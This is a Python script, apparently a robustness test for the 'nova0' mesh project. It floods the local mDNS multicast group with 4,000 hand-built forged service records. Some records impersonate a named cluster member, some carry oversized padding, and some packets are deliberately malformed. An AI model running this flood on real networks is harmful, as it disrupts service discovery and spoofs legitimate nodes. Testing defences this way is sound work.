"""Sends thousands of forged mDNS records, made by hand: `mdns_flood.py ADDRESS CLUSTER NODE`."""

import socket
import struct
import sys
import time

from nova0.mesh.keys import key_text


def name(text):
    return b"".join(bytes([len(part)]) + part.encode() for part in text.split(".")) + b"\0"


def record(owner, kind, body, ttl=4500):
    return name(owner) + struct.pack(">HHIH", kind, 1, ttl, len(body)) + body


def answer(instance, node, cluster, key, address, padding=b""):
    service, host = "_nova0._tcp.local", f"{instance}.local"
    whole = f"{instance}.{service}"
    words = {"v": "1", "c": cluster, "n": node, "r": "host", "p": "1,2,3,0", "k": key, "b": "1", "s": "0"}
    texts = [f"{k}={v}".encode() for k, v in words.items()] + ([padding] if padding else [])
    txt = b"".join(bytes([len(t)]) + t for t in texts)
    records = [
        record(service, 12, name(whole)),
        record(whole, 33, struct.pack(">HHH", 0, 0, 7) + name(host)),
        record(whole, 16, txt),
        record(host, 1, socket.inet_aton(address)),
    ]
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def main():
    own, cluster, member = sys.argv[1:]
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    for number in range(4000):
        key = key_text(number.to_bytes(4, "big") * 8)
        node = member if number % 10 == 0 else f"evil{number}/host"
        padding = b"x" * 255 if number % 7 == 0 else b""
        out.sendto(answer(f"forged{number}", node, cluster, key, own, padding), ("224.0.0.251", 5353))
        if number % 50 == 0:  # no more than a socket's buffer holds
            out.sendto(b"\0" * 12 + bytes(range(256)) * 4, ("224.0.0.251", 5353))
            time.sleep(0.02)
    print("SENT", flush=True)


if __name__ == "__main__":
    main()
